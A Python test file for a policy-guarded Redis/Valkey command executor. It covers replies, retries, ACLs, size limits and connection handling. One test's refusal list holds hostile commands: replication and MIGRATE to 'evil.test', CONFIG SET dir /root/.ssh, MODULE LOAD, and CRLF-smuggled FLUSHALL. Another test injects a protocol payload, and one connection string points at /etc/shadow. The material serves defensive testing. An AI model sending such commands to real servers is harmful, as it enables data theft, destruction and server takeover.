"""Tests commands on a real Valkey (or Redis) server."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Iterator
from typing import Any

import orjson
import pytest

from remit.backends.breaker import FAILURES
from remit.backends.failure import OperationFailed
from remit.backends.outcome import Outcome
from remit.errors import PolicyDenied
from remit.operations.database import redis as redis_module
from remit.operations.database.metering import MOST_BYTES
from remit.operations.database.pools import MOST_CONNECTIONS
from remit.operations.database.redis import RedisExecutor
from servers import Server, valkey

from .conftest import Desk

CONNECTION = {"name": "cache", "key": "url"}
COMMANDS = ["GET", "SET", "MGET", "INCR", "LPUSH", "CONFIG GET", "DEBUG"]


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Server, str]]:
    server, url = valkey(tmp_path_factory.mktemp("valkey"))
    server.start()
    yield server, url
    server.stop()


@pytest.fixture
def url(running: tuple[Server, str]) -> str:
    return running[1]


@pytest.fixture
async def desk() -> AsyncIterator[Desk]:
    executor = RedisExecutor()
    yield Desk(executor, [{"databases": {"redis": {"secrets": ["cache"], "commands": COMMANDS}}}])
    await executor.close()


async def run(desk: Desk, url: str, *commands: list[str], **rest: Any) -> list[Any]:
    operation = {"connection": CONNECTION, "commands": list(commands), **rest}
    await desk.do({"connection": url.encode()}, redis=operation)
    return [orjson.loads(line).get("reply") for line in desk.output.stdout.splitlines()]


async def test_commands_in_one_transaction(desk: Desk, url: str) -> None:
    replies = await run(desk, url, ["SET", "a", "1"], ["incr", "a"], ["GET", "a"], ["MGET", "a", "none"])
    assert replies == ["OK", 2, "2", ["2", None]]


async def test_bytes_that_are_no_text(desk: Desk, url: str) -> None:
    import redis

    with redis.Redis.from_url(url) as server:
        server.set("raw", b"\x00\xff")
    assert await run(desk, url, ["GET", "raw"]) == [{"hex": "00ff"}]


VALUES = {
    "return {double=tonumber('inf')}": "inf",
    "return {double=tonumber('-inf')}": "-inf",
    "return {double=0.1}": 0.1,
    "return {big_number='1234567999999999999999999999999999999'}": "1234567999999999999999999999999999999",
    "return {big_number='-12'}": -12,
    "return {map={['a']=1, ['b']={map={}}}}": {"a": 1, "b": {}},
    "return {map={[7]='seven'}}": [[7, "seven"]],
    "return {map={['\\255']='bytes'}}": [[{"hex": "ff"}, "bytes"]],
    "return {set={['a']=true}}": ["a"],
    "return {verbatim_string={string='told', format='txt'}}": "told",
    "return true": True,
    "return {1, 'a', {redis.error_reply('LOADING not really')}}": [1, "a", [{"error": "LOADING not really"}]],
    "return '\\255'": {"hex": "ff"},
}


async def test_replies_are_exact(desk: Desk, url: str) -> None:
    """Values that JSON cannot express are text, whatever the script and the protocol."""
    desk.policies[0]["databases"]["redis"]["commands"] = ["EVAL"]
    commands = [["EVAL", f"redis.setresp(3) {script}", "0"] for script in VALUES]
    replies = await run(desk, url, *commands)
    assert dict(zip(VALUES, replies, strict=True)) == VALUES


async def test_scores_in_both_protocols(desk: Desk, url: str) -> None:
    desk.policies[0]["databases"]["redis"]["commands"] = ["DEL", "ZADD", "ZRANGE"]
    asked = [
        ["DEL", "z"],
        ["ZADD", "z", "-inf", "a", "1.5", "b", "+inf", "c"],
        ["ZRANGE", "z", "0", "-1", "WITHSCORES"],
    ]
    assert (await run(desk, url, *asked))[2] == [["a", "-inf"], ["b", 1.5], ["c", "inf"]]
    assert (await run(desk, f"{url}?protocol=2", *asked))[2] == ["a", "-inf", "b", "1.5", "c", "inf"]


async def test_a_reply_that_cannot_be_told(desk: Desk, url: str) -> None:
    """It is not a failure of the server, and the command is not retried."""
    desk.policies[0]["databases"]["redis"]["commands"] = ["EVAL", "INCR", "DEL", "GET"]
    await run(desk, url, ["DEL", "n"])
    deep = "local t = 1 for i = 1, LEVELS do t = {t} end redis.call('INCR', 'n') return t"
    for levels in ("201", "1500"):
        script = deep.replace("LEVELS", levels)
        operation = {"connection": CONNECTION, "commands": [["EVAL", script, "0"]]}
        ended = await desk.attempt({"connection": url.encode()}, redis=operation)
        assert (ended.reason, ended.retryable, ended.category) == ("UnreadableReply", False, "Operation"), ended
    assert await run(desk, url, ["GET", "n"]) == ["2"]


@pytest.mark.parametrize(
    ("code", "before", "after"),
    [
        ("READONLY", "REPLICAOF 127.0.0.1 1", "REPLICAOF NO ONE"),
        ("MASTERDOWN", "CONFIG SET replica-serve-stale-data no;REPLICAOF 127.0.0.1 1", "REPLICAOF NO ONE"),
        ("OOM", "CONFIG SET maxmemory 1", "CONFIG SET maxmemory 0"),
        ("NOREPLICAS", "CONFIG SET min-replicas-to-write 1", "CONFIG SET min-replicas-to-write 0"),
    ],
)
async def test_what_the_server_does_not_do_for_now(desk: Desk, url: str, code: str, before: str, after: str) -> None:
    """The server reported that nothing was done, so a retry may repeat the command."""
    import redis

    with redis.Redis.from_url(url) as server:
        server.delete("n")
        try:
            for line in before.split(";"):
                server.execute_command(*line.split())
            operation = {"connection": CONNECTION, "commands": [["INCR", "n"]]}
            ended = await desk.attempt({"connection": url.encode()}, redis=operation)
        finally:
            server.execute_command(*after.split())
        assert (ended.reason, ended.retryable) == ("NotReady", True), ended
        assert ended.message.endswith("; nothing was performed")
        assert code in ended.message
        assert ended.category == ("Infrastructure" if code == "MASTERDOWN" else "Operation")
        assert await run(desk, url, ["INCR", "n"]) == [1]


async def test_read_only_is_what_the_server_says(desk: Desk, url: str) -> None:
    await run(desk, url, ["GET", "a"], readOnly=True)
    with pytest.raises(OperationFailed, match=r"commands\[1\]: .*does not say of SET that it only reads") as caught:
        await run(desk, url, ["GET", "a"], ["SET", "b", "1"], readOnly=True)
    assert (caught.value.reason, caught.value.retryable) == ("ReadOnly", False)
    assert await run(desk, url, ["GET", "b"]) == [None]


async def test_a_subcommand_that_only_reads(desk: Desk, url: str) -> None:
    desk.policies[0]["databases"]["redis"]["commands"] = ["SET", "OBJECT ENCODING", "OBJECT FREQ", "CONFIG GET", "PING"]
    await run(desk, url, ["SET", "a", "1"])
    assert await run(desk, url, ["OBJECT", "ENCODING", "a"], readOnly=True) == ["int"]
    for command in (["CONFIG", "GET", "dir"], ["PING"]):
        with pytest.raises(OperationFailed, match="does not say of"):
            await run(desk, url, command, readOnly=True)


async def test_a_users_own_rights_are_the_servers_to_hold(desk: Desk, url: str) -> None:
    """An ACL allows the user to read only: the server enforces it even if neither the policy nor the task restricts
    writing."""
    import redis

    with redis.Redis.from_url(url) as server:
        server.execute_command("ACL", "SETUSER", "reader", "on", ">canary-reader", "~*", "+get", "+multi", "+exec")
        server.set("a", "1")
    reader = url.replace(":canary-password", "reader:canary-reader")
    assert await run(desk, reader, ["GET", "a"]) == ["1"]
    with pytest.raises(OperationFailed, match=r"commands\[1\]: .* no permissions .* nothing was performed$") as caught:
        await run(desk, reader, ["GET", "a"], ["SET", "a", "canary-value"])
    assert (caught.value.reason, "canary" in str(caught.value)) == ("NotPermitted", False)
    assert await run(desk, url, ["GET", "a"]) == ["1"]


async def test_a_command_that_fails_is_named(desk: Desk, url: str) -> None:
    await run(desk, url, ["SET", "word", "x"])
    with pytest.raises(OperationFailed, match=r"commands\[0\]: .*not an integer.*took place"):
        await run(desk, url, ["INCR", "word"], ["SET", "after", "1"])
    assert await run(desk, url, ["GET", "after"]) == ["1"]
    with pytest.raises(OperationFailed, match=r"^spec.redis.commands\[0\]: wrong number of .* nothing was performed$"):
        await run(desk, url, ["SET", "only-a-key"], ["SET", "after", "2"])
    assert await run(desk, url, ["GET", "after"]) == ["1"]


@pytest.mark.parametrize(
    ("command", "told"),
    [
        (["FLUSHALL"], r"does not allow FLUSHALL .*spec.databases.redis.commands has GET"),
        (["CONFIG", "SET", "x", "y"], "does not allow CONFIG"),
        (["MULTI"], "Remit keeps itself"),
        (["select", "1"], "Remit keeps itself"),
        (["EVAL", "return 1", "0"], "does not allow EVAL"),
    ],
)
async def test_commands_are_allowed_one_by_one(desk: Desk, url: str, command: list[str], told: str) -> None:
    with pytest.raises(PolicyDenied, match=told):
        await run(desk, url, ["GET", "a"], command)


@pytest.mark.parametrize(
    "command",
    [
        ["EVAL", "return redis.call('FLUSHALL')", "0"],
        ["FUNCTION", "LOAD", "#!lua name=x"],
        ["FCALL", "f", "0"],
        ["SCRIPT", "LOAD", "return 1"],
        ["MODULE", "LOAD", "/tmp/x.so"],
        ["SLAVEOF", "evil.test", "6379"],
        ["REPLICAOF", "evil.test", "6379"],
        ["MIGRATE", "evil.test", "6379", "a", "0", "1000"],
        ["CONFIG", "SET", "dir", "/root/.ssh"],
        ["SELECT", "1"],
        ["SWAPDB", "0", "1"],
        ["CLIENT", "KILL", "TYPE", "normal"],
        ["GET FLUSHALL"],
        ["CONFIG GET SET", "dir", "/"],
        ["GET\r\nFLUSHALL", "x"],
        ["CONFIG\tSET", "dir", "/"],
        ["", "x"],
    ],
    ids=" ".join,
)
async def test_what_is_not_listed_is_refused_in_every_spelling(desk: Desk, url: str, command: list[str]) -> None:
    with pytest.raises(PolicyDenied, match=r"does not allow|Remit keeps itself|has plain letters only"):
        await run(desk, url, command)


async def test_a_word_is_a_word(desk: Desk, url: str) -> None:
    """Line breaks, and keys that look like commands, are sent with their length."""
    word = "a\r\n*1\r\n$8\r\nFLUSHALL\r\n"
    assert await run(desk, url, ["SET", word, word], ["SET", "FLUSHALL", "1"]) == ["OK", "OK"]
    assert await run(desk, url, ["GET", word], ["GET", "FLUSHALL"]) == [word, "1"]


async def test_replies_are_bounded_before_they_are_read(desk: Desk, url: str) -> None:
    """Otherwise a task of four words would make the operator hold gigabytes in memory."""
    import redis

    with redis.Redis.from_url(url) as server:
        server.set("big", b"x" * MOST_BYTES)
        server.set("half", b"x" * (MOST_BYTES // 2))
    for command in (["GET", "big"], ["MGET", "half", "half"]):
        with pytest.raises(OperationFailed, match="the commands took place") as caught:
            await run(desk, url, ["INCR", "asked"], command)
        assert (caught.value.reason, caught.value.retryable) == ("ReplyTooLarge", False)
    for _ in range(3):  # each task may use the whole limit, on the same connection
        assert len(await run(desk, url, ["GET", "half"])) == 1
    assert await run(desk, url, ["GET", "asked"]) == ["2"]


async def test_tasks_wait_for_a_connection(desk: Desk, url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Tasks wait within their own timeout, because a pool whose connections are all in use is not a failure of the
    server."""
    import redis

    def attempt(*words: str, seconds: float = 60) -> asyncio.Task[Outcome]:
        operation = {"connection": CONNECTION, "commands": [list(words)]}
        return asyncio.create_task(desk.attempt({"connection": url.encode()}, seconds=seconds, redis=operation))

    monkeypatch.setattr(redis_module, "_CONNECT_SECONDS", 1.0)
    with redis.Redis.from_url(url) as server:
        server.set("word", "x")
        server.client_pause(60_000, all=False)
        slow = [attempt("INCR", "paused") for _ in range(MOST_CONNECTIONS)]
        async with asyncio.timeout(30):
            while server.info("clients")["blocked_clients"] < MOST_CONNECTIONS:
                await asyncio.sleep(0.01)
        waiting = [attempt("GET", "word") for _ in range(FAILURES + 1)]
        ended = await attempt("GET", "word", seconds=2)
        assert (ended.reason, ended.retryable) == ("Timeout", True)
        assert ended.message.endswith("connections for this Secret were in use by other tasks")
        server.client_unpause()
    assert {(await task).reason for task in [*slow, *waiting]} == {"Completed"}
    assert desk.executor.breaker is not None
    assert desk.executor.breaker.open() == []


async def test_a_subcommand_is_allowed_by_both_words(desk: Desk, url: str) -> None:
    (reply,) = await run(desk, url, ["config", "get", "maxclients"])
    assert "maxclients" in orjson.dumps(reply).decode()


@pytest.mark.parametrize(
    "secret", ["unix:///var/run/redis.sock", "redis:///0", "http://h", "redis://h?ssl_keyfile=/etc/shadow"]
)
async def test_what_a_connection_may_say(desk: Desk, secret: str) -> None:
    with pytest.raises(OperationFailed) as caught:
        await run(desk, secret, ["GET", "a"])
    assert caught.value.reason == "InvalidConnection"
    assert secret not in str(caught.value)


async def test_a_wrong_password(desk: Desk, url: str) -> None:
    with pytest.raises(OperationFailed) as caught:
        await run(desk, url.replace("canary-password", "canary-wrong"), ["GET", "a"])
    assert caught.value.reason == "NotPermitted"
    assert "canary" not in str(caught.value)


async def test_a_server_that_goes_and_comes_back(desk: Desk, running: tuple[Server, str]) -> None:
    server, url = running
    await run(desk, url, ["GET", "a"])
    await asyncio.to_thread(server.stop)
    for _ in range(FAILURES):
        with pytest.raises(OperationFailed) as caught:
            await run(desk, url, ["GET", "a"])
        assert caught.value.retryable
    with pytest.raises(OperationFailed, match="left alone"):
        await run(desk, url, ["GET", "a"])
    await asyncio.to_thread(server.start)
    again = Desk(RedisExecutor(), desk.policies)
    assert await run(again, url, ["SET", "a", "1"]) == ["OK"]
    await again.executor.close()
